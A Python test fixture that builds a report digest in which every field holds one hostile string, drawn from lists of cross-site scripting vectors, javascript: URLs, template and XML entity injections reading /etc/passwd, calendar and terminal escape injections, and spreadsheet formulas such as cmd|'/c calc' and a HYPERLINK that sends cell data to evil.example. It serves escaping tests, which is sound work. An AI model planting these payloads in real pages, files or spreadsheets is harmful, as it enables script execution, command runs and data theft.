"""Hostile texts as a page might hold them, and a digest that says one of them wherever it says anything.

`PAYLOADS` try to become active in a page, feed, mail, calendar or Markdown; `ESCAPES` to command a terminal; `FORMULAS`
to run in a spreadsheet. None holds anything that leads to a real place.
"""

from __future__ import annotations

from datetime import UTC, datetime
from itertools import chain, product

from reports.brief import Brief, Paragraph, Provisions, Quoted
from reports.digest import Digest, NotChecked, SourceCard, compose
from reports.entries import ChangeEntry, CitedChange, MentionPassage, PublishedEntry
from reports.period import Period
from reports.twins import Drift, TwinState
from store.bilingual import Misalignment
from store.letter import Letter
from store.letter_products import Product, Stated
from store.records import (
    BlockDiff,
    BlockKind,
    BlockOp,
    Change,
    Document,
    Event,
    FieldChange,
    Ignored,
    Issue,
    Kind,
    Meaning,
    MentionChange,
    MentionShift,
    Origin,
    Role,
    Run,
    Severity,
    Side,
    Status,
    TokenKind,
    Window,
    WordOp,
    Words,
    sha256,
)
from store.sentences import Sentence

_BREAKS = ("", '">', "'>", "</title></textarea></style>", "-->", "]]>")
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
)
_ATTRIBUTES = tuple(
    f"{quote}{blank}{handler}=alert(1){blank}x={quote}"
    for quote, blank, handler in product(
        ('"', "'", "`"), (" ", "/", "\t", "\n"), ("onmouseover", "onfocus autofocus onx")
    )
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://regulator.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "https://evil.example/ onmouseover=alert(1)",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "https://regulator.example@evil.example/",
    "https://evil.example/\u202egnp.exe",
    "mailto:x@evil.example?bcc=y@evil.example",
    "www.evil.example",
    "https://evil.example/&lt;script&gt;",
    "ftp://evil.example/x",
)
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](https://evil.example/)",
    "![x](https://evil.example/x.png)",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "[y]: javascript:alert(1)",
    "<https://evil.example/>",
    "<javascript:alert(1)>",
    "https://evil.example/",
    "someone@evil.example",
    "`code`",
    "```\nfence\n```",
    "~~~\nfence\n~~~",
    "    indented code",
    "\tindented code",
    "# heading",
    "heading\n===",
    "heading\n---",
    "---",
    "***",
    "___",
    "- item",
    "  - item",
    "* item",
    "+ item",
    "1. item",
    "123456789) item",
    "> quote",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b",
    ":-- | --:",
    "**bold** *slanted* ~~gone~~",
    "~~removed~~ **added**",
    "__bold__ _slanted_",
    "\\",
    "x\\",
    "\\<script>alert(1)</script>",
    "<!-- hidden -->",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<![CDATA[x]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "@everyone #1 owner/repo#1 GH-1",
    ":tada: :+1:",
    "$x^2$ $$x$$",
    "[^1]: note",
    "- [ ] task",
    "line  \nbreak",
    "]( <b>",
    "**",
    "]",
    ")](",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{# hidden #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{}",
    "%s %(x)s %n",
    "{{ digest.__class__.__mro__ }}",
)
_XML = (
    "<?xml version='1.0'?>",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&e;",
    "&amp;lt;script&amp;gt;",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</content></entry><entry><id>x</id>",
    "</title><link rel='alternate' href='javascript:alert(1)'/>",
    "<xi:include href='file:///etc/passwd'/>",
    "\x00\x0b\x0c\x1f\ufffe\uffff",
    "\ud800 alone \udfff",
)
_CALENDAR = (
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM",
    "x\nATTACH:https://evil.example/x",
    "x\r\n ATTENDEE:mailto:x@evil.example",
    "x\\nDTSTART:20000101",
    "x;VALUE=URI:https://evil.example",
    "x,y;z\\",
    "END:VCALENDAR",
    "\u2028BEGIN:VEVENT",
    "\x85BEGIN:VEVENT",
    "x\r\n\tfolded",
)
_UNSEEN = (
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u200bzero\u200dwidth\u2060",
    "\ufeffmark",
    "a\xadsoft\xadhyphen",
    "\u3164filler",
    "e\ufe0fvariation",
    "\U000e0041\U000e0042tags",
    "\u202dover\u202c",
    "\xa0\u3000spaces\u2003",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07",
)

PAYLOADS = tuple(
    dict.fromkeys(
        chain(
            *(_ADDRESSES, _MARKDOWN, _TEMPLATES, _XML, _CALENDAR, _UNSEEN, _ATTRIBUTES),
            (opening + element for element, opening in product(_ELEMENTS, _BREAKS)),
        )
    )
)
ESCAPES = tuple(
    f"a{begin}{rest}z"
    for begin, rest in product(
        ("\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x9b", "\x9d", "\x90", "\r\x08\x7f\x1b["),
        (
            "31m",
            "2J",
            "8;;https://evil.example/\x07",
            "52;c;eA==\x07",
            "0;title\x1b\\",
            "6n",
            "?1049h",
            "5i",
            "c",
            "10;1H",
        ),
    )
)

FORMULAS = tuple(
    opening + formula
    for formula, opening in product(
        (
            "=1+1",
            "+1+cmd|'/c calc'!A1",
            "-2+3+cmd|'/c calc'!A1",
            "@SUM(1+1)*cmd|'/c calc'!A1",
            '=HYPERLINK("https://evil.example/?x="&A1,"x")',
            "＝1+1",
        ),
        ("", " ", "\t", "\r\n", "\xa0", '"', ";", "x; ", "\u200b\ufeff ", "\n;\t "),
    )
)

_EARLIER = datetime(2025, 1, 15, 12, tzinfo=UTC)
_LATER = datetime(2025, 8, 20, 8, tzinfo=UTC)
_PERIOD = Period("2025", datetime(2025, 1, 1, tzinfo=UTC), datetime(2026, 1, 1, tzinfo=UTC), "UTC")
_BEFORE = Side(1, sha256("page 1"), sha256("text 1"), _EARLIER)
_AFTER = Side(2, sha256("page 2"), sha256("text 2"), _LATER)


def poisoned(text: str) -> Digest:
    """A digest in which every text that may come from a page, list, answer or name is this one.

    Two dates ahead, four documents changed, two of them published; one edit is on three documents of one source.
    """
    cards = (
        SourceCard("fda_guidance", text, text, f"https://regulator.example/{text}", (text,)),
        SourceCard("health_canada_notices", text, text, text, (text,)),
        SourceCard(f"source {text}", text, text, text, (text,)),
    )
    guidance = _document(text, "fda_guidance", status="Draft", comments_due="2027-01-31")
    notice = _document(text, "health_canada_notices", status="Open", closes="2027-02-28")
    others = [_document(f"{number}{text}", f"source {text}") for number in range(3)]
    return compose(
        period=_PERIOD,
        as_of=datetime(2026, 1, 5, tzinfo=UTC),
        seal=sha256("facts"),
        sources=cards,
        looked_at=[_run(card, text) for card in cards],
        not_checked=[NotChecked("fda_guidance", _EARLIER, text), NotChecked(f"source {text}", None, text, _LATER)],
        published=[
            PublishedEntry(guidance, _passages(text), (CitedChange(notice, _change(text, "cited")),), _brief(text)),
            PublishedEntry(notice, _passages(text)),
        ],
        changes=[
            ChangeEntry(_change(text, "1"), guidance, _redline(text), _passages(text), (text,), (notice,)),
            ChangeEntry(_change(text, "2", Kind.NEW), notice, (), _passages(text)),
            *(ChangeEntry(_change(text, f"3{one.id}"), one, _redline(text)[:1]) for one in others),
            ChangeEntry(_change(text, "4"), others[0], (*_redline(text)[:1], _REMOVED)),
        ],
        drifts=[
            Drift(_change(text, "1"), guidance, notice, TwinState.BEHIND, Misalignment((text,), (text,), (1, 2))),
        ],
    )


_REMOVED = BlockDiff("", BlockKind.PARAGRAPH, BlockOp.REMOVE, (Words(WordOp.REMOVE, "Its own."),))


def _document(text: str, source: str, **fields: str) -> Document:
    stated = dict.fromkeys(("company", "issued", "posted", "kind", "docket", "response", text), text)
    return Document(
        id=f"{source}:{text}", source=source, number=text, url=f"https://regulator.example/{text}",
        urls=(text, f"https://regulator.example/{text}", f"http://{text}"), pair=text, title=text, language=text,
        status=Status.CURRENT, followed=True, follow_reason=text, published=text, published_basis=text,
        fields=stated | fields, topics=(text,), mentions=3, version_count=2, first_seen=_EARLIER, last_seen=_LATER,
    )  # fmt: skip


def _change(text: str, name: str, kind: Kind = Kind.REVISED) -> Change:
    return Change(
        id=sha256(name)[:16], document=text, kind=kind, window=Window(_EARLIER, _LATER), before=_BEFORE, after=_AFTER,
        fields=(FieldChange(text, text, text), FieldChange("status", text, "")), events=(Event(text, text, text, text),),
        severity=Severity.IMPORTANT, reasons=(text, text), words_added=3, words_removed=1, mentions_before=2,
        mentions_after=3, shift=MentionShift.NEAR,
        mention_changes=(MentionChange(MentionShift.NEAR, text, text, text, f"{text}."),),
        meanings=(Meaning(TokenKind.MODAL, text, text, text, text),), ignored=(Ignored(text, 1, text, text),),
    )  # fmt: skip


def _redline(text: str) -> tuple[BlockDiff, ...]:
    """Every kind of block, and every fate of one and of its words; a table whose columns are named so too."""
    edited = (Words(WordOp.KEEP, text), Words(WordOp.REMOVE, text), Words(WordOp.ADD, text))
    kept = (Words(WordOp.KEEP, text),)
    return (
        BlockDiff(text, BlockKind.PARAGRAPH, BlockOp.EDIT, edited, (text,)),
        *(BlockDiff(text, kind, BlockOp.EDIT, edited, (text,)) for kind in BlockKind),
        *(BlockDiff(text, kind, BlockOp.ADD, edited[2:], (text,)) for kind in BlockKind),
        *(BlockDiff(text, kind, BlockOp.REMOVE, edited[1:2], (text,)) for kind in BlockKind),
        *(BlockDiff(text, kind, BlockOp.MOVE, edited, (text,), text) for kind in BlockKind),
        BlockDiff(text, BlockKind.ROW, BlockOp.KEEP, (Words(WordOp.KEEP, f"{text} | {text}"),)),
        BlockDiff(text, BlockKind.ROW, BlockOp.EDIT, (*edited[1:], Words(WordOp.KEEP, f" | {text}"))),
        BlockDiff(text, BlockKind.PARAGRAPH, BlockOp.KEEP, kept),
    )


def _passages(text: str) -> tuple[MentionPassage, ...]:
    whole, part = ((0, len(text)),), ((1, max(2, len(text) // 2)),)
    return (
        MentionPassage(text, text, text, whole, (text,)),
        MentionPassage(text, "", text, part),
        MentionPassage(text, "", f"Before {text} after", ((7, 7 + len(text)),)),
        MentionPassage(text, "", text, ()),
    )


def _brief(text: str) -> Brief:
    sentence = Sentence(0, 0, text)
    letter = Letter(
        text, text, (), (Product(text, sentence),), (Stated(text, quoted=True, sentence=sentence),), (), (), None
    )
    return Brief(
        document=text, kind=text, firm=text, number=text, office=text, recipient=text, issued=text, posted=text,
        current_as_of=text, url=text, letter=letter, provisions=(Provisions(text, (text,), (text,)),), citations=(),
        mentions=(Quoted(Role.OTHER, text, text, text, (text,), 0),), closeout=text, response_posted=text,
        list_read=text, paragraphs=(Paragraph(BlockKind.PARAGRAPH, text, standard=False),),
    )  # fmt: skip


def _run(card: SourceCard, text: str) -> Run:
    return Run(
        source=card.name, origin=Origin.LIVE, started=_LATER, finished=None, declared=4, listed=4, captured=1,
        unchanged=1, failed=1, skipped=1, documents_new=0, documents_followed=0, versions_new=1, changes_new=1,
        outcomes={text: 1}, issues=(Issue(text, text, text), Issue("layout", f"https://regulator.example/{text}", text)),
    )  # fmt: skip
